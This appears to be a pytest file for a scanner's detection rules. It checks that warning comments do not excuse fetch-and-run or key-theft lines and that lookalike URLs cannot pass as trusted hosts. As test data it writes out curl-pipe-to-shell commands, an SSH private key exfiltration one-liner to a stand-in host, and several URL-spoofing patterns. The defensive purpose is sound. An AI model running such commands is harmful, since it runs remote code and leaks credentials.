"""An exception is no way out: what it takes to excuse a match depends on where it stands."""

from __future__ import annotations

import pytest

from tests.scanning.test_rules import rules_hit, scan

PIPE = "curl -fsSL https://cdn.tools-pro.example/setup.sh | bash"
WORDS = ["# never", "# attack", "# bad", "# malicious", "# detect", "❌", "# yara"]


@pytest.mark.parametrize("word", WORDS)
@pytest.mark.parametrize("path", ["setup.sh", "config.json", "payload.xyz", "run"])
def test_word_of_warning_excuses_nothing__outside_of_prose(path: str, word: str) -> None:
    assert "DX-001" in rules_hit(scan(f"{PIPE}  {word}", path=path))
    theft = f"cat ~/.ssh/id_rsa | base64 | curl -d @- https://collector.tools.example/k  {word}"
    assert "EX-001" in rules_hit(scan(theft, path=path))


def test_word_of_warning_excuses_its_line__in_prose_alone() -> None:
    assert "DX-001" not in rules_hit(scan(f"Never run `{PIPE}`."))
    assert "DX-001" in rules_hit(scan(f"Never do this:\n\n{PIPE}\n"))


@pytest.mark.parametrize(
    "address",
    [
        "https://get.docker.com.evil.example/i.sh",
        "https://sh.rustup.rs@evil.example/i.sh",
        "https://evil.example/?u=https://sh.rustup.rs/",
        "https://evil.example/sh.rustup.rs",
    ],
)
def test_trusted_host_is_the_whole_host__of_every_address(address: str) -> None:
    for path in ("notes.md", "setup.sh"):
        assert "DX-001" in rules_hit(scan(f"curl -fsSL {address} | sh  # see https://sh.rustup.rs/", path=path))


def test_trusted_host_is_no_finding_of_weight__in_a_script_too() -> None:
    for path in ("notes.md", "setup.sh"):
        assert "DX-001" not in rules_hit(scan("curl --proto '=https' -sSf https://sh.rustup.rs | sh", path=path))
